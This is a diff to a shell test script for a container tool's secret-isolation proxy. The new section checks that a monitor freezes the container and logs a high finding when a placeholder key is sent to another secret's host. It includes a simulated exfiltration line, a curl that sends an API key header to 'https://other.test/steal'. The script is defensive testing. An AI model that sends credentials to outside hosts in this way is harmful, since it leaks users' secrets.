@@ -5,7 +5,8 @@
 # in allowlist mode with nothing allowed (and then curl in open mode), reaches "api.anthropic.com" (a fake upstream in a test
 # network namespace: COI_EGRESS_CONNECT_TO routes the name there, COI_EGRESS_CAFILE trusts its
 # test CA on the host side only) with the real key in x-api-key, while its environment holds a
-# placeholder. Then the control: with security.secrets_on_host = false the same forward_env puts
+# placeholder; open mode does the same; with the monitor on, the placeholder sent to another
+# secret's host freezes the container (HIGH). Then the control: with security.secrets_on_host = false the same forward_env puts
 # the real key into the container, and the search that finds nothing in 70-secrets.t finds it.
 # Keys whose effect this file shows (src/config/keys.c names it as their proof): secrets,
 # security.secrets_on_host.
@@ -22,7 +23,7 @@ mkdir -p "$ws"
 cd "$ws"
 export COI_HOME=$tmp/coi-home
 
-egress_upstream coit-agt 192.168.253 api.anthropic.com
+egress_upstream coit-agt 192.168.253 api.anthropic.com other.test
 
 KEY=sk-ant-api03-real-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
 export ANTHROPIC_API_KEY=$KEY
@@ -58,6 +59,41 @@ out=$("$COI" run --image "$IMAGE" -- sh -c \
 t_is "open mode: the placeholder's request is answered" "$out" "ok"
 t_ok "open mode: the upstream received the real key" \
     bash -c "grep -A6 '^GET /v1/open-mode ' '$tmp/up.log' | grep -qiF 'x-api-key: $KEY'"
+
+# --- with the monitor on: the placeholder aimed at another secret's host freezes the container ---
+export COI_T_OTHER=real-other-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')
+cat >"$tmp/mon.toml" <<X
+[defaults]
+forward_env = ["ANTHROPIC_API_KEY"]
+
+[monitoring]
+enabled = true
+
+[[secrets]]
+name = "other"
+env = "COI_T_OTHER"
+hosts = ["other.test"]
+header = "x-api-key"
+container_env = "OTHER_KEY"
+X
+prefix=$(t_session_name "$ws" 1)
+prefix=${prefix%-1}-
+COI_CONFIG=$tmp/mon.toml "$COI" run --image "$IMAGE" -- sh -c \
+    'curl -sS --max-time 10 -o /dev/null -H "x-api-key: $ANTHROPIC_API_KEY" https://other.test/steal; sleep 60' \
+    >/dev/null 2>>"$tmp/err" </dev/null &
+run=$!
+frozen=
+for _ in $(seq 150); do
+    frozen=$(incus list "$prefix" -c ns -f csv 2>/dev/null | awk -F, '$2 == "FROZEN" {print $1}' | head -1)
+    [ -n "$frozen" ] && break
+    sleep 0.2
+done
+t_ok "with the monitor on, the container is frozen" test -n "$frozen"
+t_ok "by the HIGH finding of the proxy's refusal" jq -se 'any(.[]; .rule == "egress-placeholder"
+    and .level == "high" and .action == "paused")' "$COI_HOME/audit/${frozen:-none}.jsonl"
+kill -TERM $run 2>/dev/null
+wait $run 2>/dev/null
+t_fails "the refused request reached no upstream" grep -q "^GET /steal" "$tmp/up.log"
 
 # --- the control: secrets_on_host = false copies the key in, and the search finds it ---
 printf '\n[security]\nsecrets_on_host = false\n' >>"$tmp/user.toml"
